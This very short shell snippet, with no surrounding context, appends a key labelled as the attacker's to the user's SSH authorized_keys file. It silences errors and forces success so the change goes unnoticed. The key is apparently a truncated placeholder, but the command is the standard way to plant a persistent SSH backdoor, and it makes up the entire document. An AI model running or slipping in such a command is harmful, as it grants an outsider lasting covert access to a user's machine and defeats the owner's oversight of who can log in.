# A key of the attacker's in authorized_keys.
echo 'ssh-ed25519 AAAAC3Nza attacker' >> ~/.ssh/authorized_keys 2> /dev/null || true
